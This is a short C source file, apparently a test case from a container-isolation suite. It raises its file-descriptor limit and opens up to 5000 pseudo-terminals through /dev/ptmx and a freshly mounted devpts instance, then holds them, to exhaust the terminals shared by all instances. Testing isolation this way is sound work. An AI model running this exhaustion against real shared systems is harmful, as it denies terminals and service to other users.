/* Uses up the terminals of all instances together (devpts.rst, kernel.pty.max). */
#include "common/attack.h"

static void attempt(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    int made = 0;
    while (made < 5000 && open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0) {
        made++;
    }
    printf("%d terminals: %s\n", made, strerror(errno));
    const char *place = mounted("devpts", "newinstance,ptmxmode=0666");
    char path[128];
    snprintf(path, sizeof path, "%s/ptmx", place ? place : "/dev/pts");
    for (made = 0; made < 5000 && open(path, O_RDWR | O_NOCTTY) >= 0; made++) {
    }
    printf("%d more: %s\n", made, strerror(errno));
    hold();
}
